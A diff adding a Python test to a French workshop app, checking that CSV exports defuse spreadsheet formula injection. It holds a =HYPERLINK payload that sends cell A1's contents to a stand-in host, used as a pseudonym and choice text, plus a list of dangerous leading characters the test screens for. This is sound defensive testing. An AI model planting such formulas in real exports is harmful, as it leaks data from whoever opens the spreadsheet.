@@ -56,3 +56,32 @@ def test_the_report_is_one_pdf_page_with_the_team_profile(client, answered):
     assert "Atelier d’essai" in page
     assert "3 participants" in page
     assert "Usages" in page
+
+
+HYPERLINK = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'
+
+
+def test_text_starting_like_a_formula_comes_out_inert_and_numbers_stay_numbers(
+    client, workshop, quiz
+):
+    # Text that people typed or wrote (a pseudonym, a choice's wording) that a spreadsheet
+    # would run as a formula is written with a leading quote; counts stay plain numbers.
+    from sonar.quiz import data
+    from sonar.quiz.models import Choice
+
+    first = quiz.questions[0].choices[0].key
+    Choice.objects.filter(question__questionnaire__key="style", key=first).update(text_fr=HYPERLINK)
+    data.forget()
+    person = join(workshop, HYPERLINK)
+    actions.answer(workshop, person, quiz.questions[0].key, first)
+    facilitator = as_facilitator(client, workshop)
+
+    aggregates = rows(facilitator.get(f"/ateliers/{workshop.code}/agregats.csv"))
+    participants = rows(facilitator.get(f"/ateliers/{workshop.code}/participants.csv"))
+
+    row = next(row for row in aggregates if row[2] == first)
+    assert row[3] == "'" + HYPERLINK
+    assert row[5] == "1"
+    cells = [cell for table in (aggregates, participants) for row in table for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert HYPERLINK not in {cell for row in participants for cell in row}
